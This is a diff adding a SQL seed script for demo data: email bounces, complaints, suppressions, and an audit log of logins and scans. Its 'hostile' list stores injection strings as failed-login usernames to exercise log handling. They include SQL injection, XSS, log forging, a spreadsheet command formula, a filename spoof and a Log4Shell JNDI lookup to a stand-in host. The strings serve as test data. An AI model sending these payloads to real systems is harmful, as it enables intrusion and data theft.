@@ -1,0 +1,370 @@
+-- What happened within a year: bounces and complaints of mail, and the audit log.
+-- demo/data.py runs it after data_accounts.sql, whose table `person` it uses.
+
+-- -- Mail, as the web service's webhook leaves it ----------------------------------------
+
+-- A row is a bounce, a complaint, or a suppression that rests on neither; a `reason` makes
+-- it a suppression in any case. Every third is of somebody who has an account.
+CREATE TEMP TABLE event ON COMMIT DROP AS
+WITH bounces (kind, subtype, count, reason, email, days_ago) AS (
+    VALUES
+        -- Hard bounces: never touched, however old.
+        ('hard', 'no_email', 1, 'hard_bounce', '', '{0.6,2,5,9,13,27,48,95,180,290,340}'),
+        ('hard', 'suppressed', 1, 'hard_bounce', '', '{3,66,210}'),
+        ('hard', 'general', 1, NULL, '', '{130}'), -- lifted by hand
+        -- Three soft bounces and more suppress: for 30 days.
+        ('soft', 'mailbox_full', 3, 'soft_bounce', '', '{1,8,19,29}'),
+        ('soft', 'mailbox_full', 4, 'soft_bounce', '', '{31.5,36,44,59,77}'),
+        ('soft', 'content_rejected', 5, 'soft_bounce', '', '{98,140,260}'),
+        -- The webhook rewrites the type of a record, not the reason of its suppression.
+        ('hard', 'no_email', 4, 'soft_bounce', '', '{41}'),
+        -- Bounces that suppress nothing: forgotten after 90 days.
+        ('soft', 'mailbox_full', 2, NULL, '', '{4,11,38,82,93,121}'),
+        ('soft', 'message_too_large', 1, NULL, '', '{25,150,233}'),
+        ('transient', 'general', 1, NULL, '', '{0.2,3,6,12,40,89}'),
+        ('transient', 'general', 2, NULL, '', '{91,104,199,330}'),
+        ('transient', 'undetermined', 1, NULL, '', '{10}'),
+        -- Old soft bounces, but suppressed again below, under other capitals.
+        ('soft', 'mailbox_full', 3, 'soft_bounce', 'kari.nilsen@example.org', '{52}'),
+        ('soft', 'mailbox_full', 3, 'soft_bounce', 'a.lindqvist@example.net', '{47}')
+),
+others (kind, reason, email, days, is_active, reviewed, notes) AS (
+    VALUES
+        ('abuse', 'complaint', '', 1.5, TRUE, FALSE, ''),
+        ('abuse', 'complaint', '', 10, TRUE, FALSE, ''),
+        ('abuse', 'complaint', '', 62, TRUE, TRUE, ''),
+        ('abuse', 'complaint', '', 200, TRUE, TRUE, ''),
+        ('fraud', 'complaint', '', 33, TRUE, TRUE, ''),
+        ('auth-failure', 'complaint', '', 71, TRUE, TRUE, ''),
+        ('other', 'complaint', '', 5, TRUE, FALSE, ''),
+        ('virus', 'complaint', '', 300, TRUE, TRUE, ''),
+        ('not-spam', 'complaint', '', 120, FALSE, TRUE, ''),
+        ('abuse', NULL, 'Kari.Nilsen@Example.ORG', 50, TRUE, TRUE, ''),
+        (NULL, 'manual', 'A.Lindqvist@example.net', 46, TRUE, NULL, 'Moved'),
+        (NULL, 'manual', '', 400, TRUE, NULL, 'Asked by phone not to be written to'),
+        (NULL, 'manual', '', 80, FALSE, NULL, 'Lifted after a call'),
+        (NULL, 'unsubscribe', '', 12, TRUE, NULL, ''),
+        (NULL, 'unsubscribe', '', 55, TRUE, NULL, ''),
+        (NULL, 'unsubscribe', '', 350, TRUE, NULL, ''),
+        (NULL, 'soft_bounce', '', 64, TRUE, NULL, 'From the former mail provider'),
+        (NULL, 'soft_bounce', '', 9, TRUE, NULL, 'From the former mail provider'),
+        (NULL, 'soft_bounce', '', 250, FALSE, NULL, 'Expired')
+),
+listed AS (
+    SELECT kind, subtype, count, reason, email, days, TRUE AS is_active, NULL, ''
+    FROM bounces, unnest(days_ago::numeric[]) AS days
+    UNION ALL
+    SELECT kind, NULL, NULL, reason, email, days, is_active, reviewed, notes
+    FROM others
+),
+numbered (kind, subtype, count, reason, given, days, is_active, reviewed, notes, number) AS (
+    SELECT *, row_number() OVER () - 1 FROM listed
+),
+known AS (
+    -- Four who never confirmed their address, then members.
+    SELECT id, email, row_number() OVER (ORDER BY kind = 'member', joined) - 1 AS place
+    FROM person
+    WHERE kind = 'member' OR number BETWEEN 150 AND 153
+)
+SELECT
+    numbered.*,
+    pg_temp.ago(days) AS moment,
+    known.id AS user_id,
+    coalesce(
+        nullif(given, ''),
+        known.email,
+        format('gone.visitor%s@example.', lpad(number::text, 2, '0'))
+        || (ARRAY['net', 'org', 'com'])[1 + number % 7 % 3]
+    ) AS email
+FROM numbered
+LEFT JOIN known ON given = '' AND number = 3 * place;
+
+INSERT INTO starview_email_bounce (
+    email, user_id, bounce_type, bounce_subtype, bounce_count, first_bounce_date,
+    last_bounce_date, sns_message_id, diagnostic_code, raw_notification, suppressed
+)
+SELECT
+    email,
+    user_id,
+    kind,
+    subtype,
+    count,
+    moment - (count - 1) * interval '2.5 days',
+    moment,
+    md5('bounce' || email)::uuid,
+    diagnostic,
+    jsonb_build_object(
+        'notificationType', 'Bounce',
+        'bounce', jsonb_build_object(
+            'bounceType', CASE kind WHEN 'hard' THEN 'Permanent' ELSE 'Transient' END,
+            'bouncedRecipients', jsonb_build_array(
+                jsonb_build_object('emailAddress', email, 'diagnosticCode', diagnostic)
+            ),
+            'timestamp', moment
+        )
+    ),
+    reason IS NOT NULL
+FROM event
+CROSS JOIN LATERAL (
+    SELECT CASE subtype
+        WHEN 'no_email' THEN format(
+            'smtp; 550 5.1.1 <%s>: Recipient address rejected: User unknown', email
+        )
+        WHEN 'suppressed' THEN 'Amazon SES has suppressed sending to this address'
+        WHEN 'mailbox_full' THEN format(
+            'smtp; 452 4.2.2 <%s>: The email account is over quota', email
+        )
+        WHEN 'message_too_large' THEN
+            'smtp; 552 5.3.4 Message size exceeds fixed limit'
+        WHEN 'content_rejected' THEN
+            'smtp; 554 5.7.1 Message rejected due to content'
+        WHEN 'general' THEN 'smtp; 421 4.4.2 mx.example.net Error: timeout exceeded'
+        ELSE ''
+    END AS diagnostic
+) AS answer
+WHERE subtype IS NOT NULL
+ORDER BY number;
+
+INSERT INTO starview_email_complaint (
+    email, user_id, complaint_type, user_agent, complaint_date, sns_message_id,
+    feedback_id, raw_notification, suppressed, reviewed
+)
+SELECT
+    email,
+    user_id,
+    kind,
+    'ExampleMail Feedback Loop/2.1',
+    moment,
+    md5('complaint' || email)::uuid,
+    md5('feedback' || email)::uuid || '-000000',
+    jsonb_build_object(
+        'notificationType', 'Complaint',
+        'complaint', jsonb_build_object(
+            'complaintFeedbackType', kind,
+            'complainedRecipients', jsonb_build_array(
+                jsonb_build_object('emailAddress', email)
+            ),
+            'timestamp', moment
+        )
+    ),
+    is_active,
+    reviewed
+FROM event
+WHERE kind IS NOT NULL AND subtype IS NULL
+ORDER BY number;
+
+INSERT INTO starview_email_suppression (
+    email, reason, added_date, user_id, bounce_id, complaint_id, is_active, notes
+)
+SELECT email, reason, moment, event.user_id, bounce.id, complaint.id, is_active, notes
+FROM event
+LEFT JOIN starview_email_bounce AS bounce USING (email)
+LEFT JOIN starview_email_complaint AS complaint USING (email)
+WHERE reason IS NOT NULL
+ORDER BY number;
+
+-- -- The audit log -----------------------------------------------------------------------
+
+-- What one visit leaves behind. `share` is how many of 92 visits go that way, and
+-- `seconds` after its beginning comes the step. In the texts %1$s is who, %2$s a number,
+-- %3$s a path and %4$s the minutes since the visit began.
+CREATE TEMP TABLE step ON COMMIT DROP AS
+WITH kinds (visit, first, share, who) AS (
+    VALUES
+        ('log in and out', 0, 36, 'member'),
+        ('log in', 36, 24, 'member'),
+        ('mistype the password', 60, 9, 'member'),
+        ('forget the password', 69, 3, 'member'),
+        ('edit another''s place', 72, 2, 'member'),
+        ('verify a place', 74, 2, 'moderator'),
+        ('hide a review', 76, 2, 'moderator'),
+        ('log in unconfirmed', 78, 2, 'squatter'),
+        ('guess a password', 80, 4, NULL),
+        ('scan', 84, 5, NULL),
+        ('register a taken address', 89, 3, NULL)
+),
+steps (visit, seconds, event_type, message, metadata) AS (
+    VALUES
+        ('log in and out', 0, 'login_success', 'User %1$s logged in successfully',
+            '{"path": "/api/auth/login/", "remember": true}'),
+        ('log in and out', 4000, 'logout', 'User %1$s logged out',
+            '{"session_minutes": %4$s}'),
+        ('log in', 0, 'login_success', 'User %1$s logged in successfully',
+            '{"path": "/api/auth/login/", "remember": false}'),
+        ('mistype the password', 0, 'login_failed', 'Failed login attempt for: %1$s',
+            '{"path": "/api/auth/login/", "reason": "invalid_credentials"}'),
+        ('mistype the password', 30, 'login_success', 'User %1$s logged in successfully',
+            '{"path": "/api/auth/login/", "remember": false}'),
+        ('forget the password', 0, 'password_reset_requested',
+            'Password reset requested for %1$s', '{"path": "/api/auth/password-reset/"}'),
+        ('forget the password', 900, 'password_changed',
+            'User %1$s changed their password', '{"via": "reset_link"}'),
+        ('edit another''s place', 0, 'permission_denied', '%1$s may not edit location %2$s',
+            '{"path": "/api/locations/%2$s/", "method": "PATCH"}'),
+        ('verify a place', 0, 'location_verified', '%1$s verified location %2$s',
+            '{"target_id": %2$s, "note": "naïve – see “rules” §3"}'),
+        ('hide a review', 0, 'content_moderated', '%1$s hid review %2$s',
+            '{"target_id": %2$s, "note": "naïve – see “rules” §3"}'),
+        ('log in unconfirmed', 0, 'login_failed',
+            'Login refused, e-mail not verified: %1$s', '{"reason": "email_not_verified"}'),
+        ('guess a password', 5, 'login_locked',
+            'Account locked after 5 failed attempts: %1$s',
+            '{"failures": 5, "locked_minutes": 60}'),
+        ('register a taken address', 0, 'registration_failed',
+            'Registration failed: a user with that e-mail exists',
+            '{"errors": {"email": ["already in use"]}, "email": "%1$s@example.com"}')
+    UNION ALL
+    SELECT 'guess a password', n, 'login_failed', 'Failed login attempt for: %1$s',
+        '{"path": "/api/auth/login/", "reason": "invalid_credentials"}'
+    FROM generate_series(0, 4) AS n
+    UNION ALL
+    SELECT 'scan', n, 'access_forbidden', 'Forbidden: GET %3$s',
+        '{"path": "%3$s", "method": "GET", "status": 403}'
+    FROM generate_series(0, 3) AS n
+)
+SELECT * FROM kinds JOIN steps USING (visit);
+
+-- Who comes: each group is counted from 0. A person keeps address and browser.
+CREATE TEMP TABLE visitor ON COMMIT DROP AS
+SELECT
+    id,
+    kind,
+    username,
+    joined,
+    who,
+    row_number() OVER (PARTITION BY who ORDER BY number) - 1 AS place,
+    count(*) OVER (PARTITION BY who) AS visitors,
+    CASE
+        WHEN number % 3 = 0 THEN format('2001:db8:%s::%s', to_hex(number), number % 9)
+        ELSE format('198.51.100.%s', number)
+    END AS ip_address,
+    'Mozilla/5.0 ' || (
+        ARRAY[
+            '(Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/142.0.0.0',
+            '(iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 Safari/604.1',
+            '(X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0',
+            '(Linux; Android 16; Pixel 10) AppleWebKit/537.36 Chrome/142.0.0.0 Mobile'
+        ]
+    )[1 + number % 4] AS user_agent
+FROM person
+CROSS JOIN LATERAL (
+    SELECT CASE
+        WHEN kind IN ('moderator', 'squatter') THEN kind
+        WHEN seen IS NOT NULL THEN 'member'
+    END AS who
+) AS role;
+
+INSERT INTO starview_app_auditlog (
+    event_type, timestamp, success, message, user_id, username, ip_address, user_agent,
+    metadata
+)
+WITH visits AS (
+    SELECT
+        step.event_type,
+        greatest(visitor.joined, pg_temp.ago(365)) AS since,
+        pg_temp.fraction(n)::float AS part,
+        seconds * (0.2 + 1.8 * pg_temp.fraction(3 * n)) AS later,
+        message,
+        metadata,
+        visitor.id AS user_id,
+        CASE
+            WHEN step.who IS NOT NULL THEN visitor.username
+            WHEN visit = 'scan' THEN ''
+            ELSE (ARRAY['admin', 'root', 'test', 'starview', 'info'])[1 + n % 5]
+        END AS username,
+        CASE
+            WHEN step.who IS NOT NULL THEN visitor.ip_address
+            WHEN n % 33 > 0 THEN format('203.0.113.%s', 1 + n % 254)
+        END AS ip_address, -- unknown behind a broken proxy
+        CASE
+            WHEN step.who IS NOT NULL THEN visitor.user_agent
+            ELSE (ARRAY['curl/8.14.1', 'python-requests/2.32.3', 'sqlmap/1.9', ''])[1 + n % 4]
+        END AS user_agent,
+        1 + n % 40 AS target,
+        (
+            ARRAY['/.env', '/wp-login.php', '/admin/', '/.git/config', '/api/users/1/']
+        )[1 + (n + seconds) % 5] AS path
+    FROM generate_series(0, 10439) AS n
+    JOIN step ON n % 92 >= first AND n % 92 < first + share
+    LEFT JOIN visitor
+        ON visitor.who = step.who
+        AND visitor.place = (n * 53 + n / 92) % visitors
+),
+-- What people type into a log-in form to break or to forge a log.
+hostile (text, number) AS (
+    SELECT *
+    FROM unnest(
+        ARRAY[
+            E'admin\n2026-01-01 00:00:00 UTC login_success admin',
+            E'admin\r\n\r\nHTTP/1.1 200 OK',
+            ''' OR ''1''=''1'' --',
+            'Robert"); DROP TABLE starview_app_auditlog;--',
+            '<script>alert(document.cookie)</script>',
+            '"}, {"event_type": "login_success", "username": "admin"}, {"x": "',
+            '\N',
+            '\.',
+            '=cmd|'' /C calc''!A0',
+            E'tab\there, vertical\x0btab and a bell \x07',
+            E'\x1b[2J\x1b[31mred\x1b[0m',
+            E'invoice\u202efdp.exe',
+            E'zero\u200bwidth\ufeff',
+            E'line\u2028separator\u2029paragraph',
+            'Zoë Ångström 🔭 星空',
+            '%s %(user)s {0} ${jndi:ldap://192.0.2.66/a}',
+            repeat('x', 150)
+        ]
+    ) WITH ORDINALITY
+),
+entries AS (
+    SELECT
+        event_type,
+        since + (pg_temp.ago(0) - since) * part + later * interval '1 second' AS moment,
+        format(message, username, target, path, round(later / 60)) AS message,
+        user_id,
+        username,
+        ip_address,
+        user_agent,
+        format(metadata, username, target, path, round(later / 60))::jsonb AS metadata
+    FROM visits
+    UNION ALL
+    SELECT
+        'registration_success',
+        joined,
+        'New user registered: ' || username,
+        id,
+        username,
+        ip_address,
+        user_agent,
+        jsonb_build_object('method', CASE kind WHEN 'google' THEN kind ELSE 'email' END)
+    FROM visitor
+    WHERE kind <> 'system'
+    UNION ALL
+    -- Each text twice: once to be archived, once too young.
+    SELECT
+        'login_failed',
+        pg_temp.ago(days + number / 10.0),
+        'Failed login attempt for: ' || text,
+        NULL,
+        text,
+        '2001:db8:bad::66',
+        left(text, 60),
+        jsonb_build_object('reason', 'invalid_credentials', 'attempted', text)
+    FROM hostile
+    CROSS JOIN (VALUES (45), (12)) AS ages (days)
+)
+SELECT
+    event_type,
+    moment,
+    event_type NOT IN (
+        'login_failed', 'login_locked', 'registration_failed', 'permission_denied',
+        'access_forbidden'
+    ),
+    message,
+    user_id,
+    username,
+    ip_address::inet,
+    user_agent,
+    metadata
+FROM entries
+WHERE moment BETWEEN pg_temp.ago(365) AND pg_temp.ago(0)
+ORDER BY moment;
